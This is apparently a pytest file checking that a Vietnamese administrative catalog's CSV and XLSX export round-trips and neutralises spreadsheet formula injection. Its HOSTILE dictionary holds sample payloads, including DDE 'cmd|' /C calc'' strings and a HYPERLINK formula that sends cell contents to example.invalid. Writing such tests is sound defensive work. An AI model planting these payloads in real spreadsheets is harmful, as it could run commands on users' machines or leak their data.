"""Export: a version written out re-imports to an identical list."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import Session

from postlink.catalog.export import export_version
from postlink.catalog.versions import entries_of
from postlink.db import session_scope
from postlink.errors import PostlinkError
from postlink.models import ListVersion
from tests.catalog.conftest import JANUARY_XLSX, ImportFn
from tests.catalog.helpers import add_draft, entry


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_reimports_to_an_identical_version(
    engine: Engine, do_import: ImportFn, tmp_path: Path, suffix: str
) -> None:
    original = do_import(JANUARY_XLSX, signed_on=date(2025, 12, 20), publish_now=True)
    path = tmp_path / f"export{suffix}"
    with session_scope() as session:
        version = session.get(ListVersion, original.version.id)
        assert version is not None
        assert export_version(session, version, path) == 67
    again = do_import(path)
    assert again.diff.base is not None
    assert again.diff.base.id == original.version.id
    assert again.diff.is_empty
    assert again.warnings == []  # the title block names the same decision
    with session_scope() as session:
        stored = [session.get(ListVersion, v.id) for v in (original.version, again.version)]
        first, second = (entries_of(session, v) for v in stored if v is not None)
    assert first == second


def test_export_keeps_agency_codes_levels_notes_and_localised_codes(
    engine: Engine, do_import: ImportFn, tmp_path: Path
) -> None:
    with session_scope() as session:
        version = add_draft(
            session,
            date(2026, 1, 1),
            entry(
                "2.000815",
                False,
                True,
                reason="Xuất trình bản chính",
                code_raw="2.000815.000.00.00.H14",
                note="Ghi chú",
                level=None,
                field="",
            ),
            entry("2.000815", agency_code="000.00.12.H14", legal_basis="NĐ 23/2015"),
        )
        export_version(session, version, tmp_path / "l.csv")
        expected = entries_of(session, version)
    again = do_import(tmp_path / "l.csv")
    assert [e for _, e in again.parsed.entries] == expected


def test_export_needs_a_known_suffix(engine: Engine, tmp_path: Path) -> None:
    with session_scope() as session:
        version = add_draft(session, date(2026, 1, 1))
        with pytest.raises(PostlinkError, match=r"phải có đuôi \.xlsx hoặc \.csv"):
            export_version(session, version, tmp_path / "l.pdf")


#: Cells a spreadsheet would evaluate (OWASP CSV injection), typed as a hostile admin might.
HOSTILE = {
    "name": '+HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "reason": "@SUM(1+1)*cmd|' /C calc'!A0",
    "legal_basis": "-2+3+cmd|' /C calc'!A0",
    "note": "\tTab đầu dòng",
    "agency": "\rCR đầu dòng",
}


def _hostile_version(session: Session) -> ListVersion:
    return add_draft(
        session,
        date(2026, 1, 1),
        entry("1.000894", False, False, **HOSTILE),
        entry("1.001193", name="=1+1 Đăng ký khai sinh"),
    )


def test_csv_export_neutralises_formulas_and_reimports(
    engine: Engine, do_import: ImportFn, tmp_path: Path
) -> None:
    path = tmp_path / "l.csv"
    with session_scope() as session:
        export_version(session, _hostile_version(session), path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows.index(next(r for r in rows if r and r[0] == "STT"))
    first, second = rows[header + 1], rows[header + 2]
    assert first[2] == "'" + HOSTILE["name"]
    assert first[9] == "'" + HOSTILE["reason"]
    assert first[10] == "'" + HOSTILE["legal_basis"]
    assert first[11] == "'" + HOSTILE["note"]
    assert first[5] == "'" + HOSTILE["agency"]
    assert second[2] == "'=1+1 Đăng ký khai sinh"
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def test_xlsx_export_writes_text_never_formulas(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "l.xlsx"
    with session_scope() as session:
        export_version(session, _hostile_version(session), path)
    workbook = openpyxl.load_workbook(path)  # not read-only: cell types are reported
    sheet = workbook.active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in values), [
        (cell.coordinate, cell.data_type) for cell in values if cell.data_type != "s"
    ]
    texts = {str(cell.value) for cell in values}
    assert "'" + HOSTILE["name"] in texts
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert "'=1+1 Đăng ký khai sinh" in texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)


def test_a_neutralised_export_reimports_to_the_same_text(
    engine: Engine, do_import: ImportFn, tmp_path: Path
) -> None:
    """The reader drops the quote again: apart from a formula ("=" is refused on import)
    and leading whitespace (trimmed from every cell), the text comes back as it was stored."""
    printable = {key: HOSTILE[key] for key in ("name", "reason", "legal_basis")}
    with session_scope() as session:
        version = add_draft(session, date(2026, 1, 1), entry("1.000894", False, False, **printable))
        export_version(session, version, tmp_path / "l.xlsx")
        expected = entries_of(session, version)
    again = do_import(tmp_path / "l.xlsx")
    assert [e for _, e in again.parsed.entries] == expected
